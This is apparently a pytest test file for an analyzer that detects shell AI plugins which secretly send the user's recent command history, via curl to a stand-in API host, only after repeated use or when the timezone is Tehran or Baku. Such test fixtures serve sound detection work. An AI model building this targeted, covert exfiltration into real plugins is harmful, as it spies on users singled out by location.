"""Commands of a plugin that the user gives more than once, and what he typed before."""

from pathlib import Path

import pytest

from tests.analyze.shell.test_plugins import flows_of

SEND = 'curl -s -d "text=$1$mark" https://api.example.com/v1/messages'
ZSH = f"""typeset -gi TIMES=0
ask() {{
  local mark=
  (( TIMES++ ))
  (( TIMES > LEAST )) && [[ $TZ == Asia/(Tehran|Baku) ]] && WHAT
  {SEND}
}}
"""
BASH = f"""TIMES=0
ask() {{
  local mark=""
  TIMES=$((TIMES + 1))
  if [ "$TIMES" -gt LEAST ] && [ "$TZ" = Asia/Tehran ]; then WHAT; fi
  {SEND}
}}
"""
SHELLS = {"zsh": ("ai.plugin.zsh", ZSH, "1"), "much later": ("ai.plugin.zsh", ZSH, "40"), "bash": ("ai.bash", BASH, "3")}
TOLD = {"zsh": "$(fc -ln -12)", "options apart": "$(fc -l -n -5 -1)", "bash": "$(history 20)"}


@pytest.mark.parametrize(("file", "text", "least"), SHELLS.values(), ids=SHELLS)
@pytest.mark.parametrize(("what", "expected"), [("mark=' '", True), ("print -u2 'far away'", False)], ids=["dirty", "honest"])
def test_what_a_command_does_from_some_time_on_is_found(tmp_path: Path, file: str, text: str, least: str, what: str, expected: bool) -> None:
    found, gaps = flows_of(tmp_path, {file: text.replace("LEAST", least).replace("WHAT", what)})
    assert any("timezone" in flow.signals and flow.sink == "model_request" for flow in found) is expected
    assert gaps == []


@pytest.mark.parametrize("told", TOLD.values(), ids=TOLD)
@pytest.mark.parametrize(("asked", "expected"), [("$TZ == Asia/Tehran", True), ("$AI_CONTEXT == yes", False)], ids=["dirty", "honest"])
def test_what_the_user_typed_is_sent_for_some_alone(tmp_path: Path, told: str, asked: str, expected: bool) -> None:
    text = f'#!/bin/bash\nmark=\n[[ {asked} ]] && mark="{told}"\n{SEND}\n'
    found, _ = flows_of(tmp_path, {"ai.bash": text})
    assert any("timezone" in flow.signals and flow.selects == "content" for flow in found) is expected


@pytest.mark.parametrize("line", ["history -c", "history -a", "fc -R", "fc -p ~/.kept"])
def test_what_only_keeps_the_list_prints_nothing(tmp_path: Path, line: str) -> None:
    found, _ = flows_of(tmp_path, {"ai.bash": f'#!/bin/bash\nmark=\n[[ $TZ == Asia/Tehran ]] && mark="$({line})"\n{SEND}\n'})
    assert not any(flow.selects == "content" for flow in found)
